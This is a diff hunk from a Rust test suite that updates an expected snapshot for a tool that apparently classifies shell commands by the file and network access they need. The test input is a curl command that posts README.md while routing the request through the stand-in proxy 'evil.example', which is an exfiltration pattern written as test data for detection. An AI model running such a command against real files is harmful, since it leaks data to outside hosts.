@@ -224,7 +224,7 @@ mod tests {
         ");
         assert_snapshot!(check("http_proxy=http://evil.example curl -d @README.md http://localhost:3000"), @"
         fs.read /repo/README.md, read
-        net.upload http://localhost:3000, send
+        net.write http://localhost:3000, write
         net.upload *, send, partial
         net.write *, write, partial
         ");
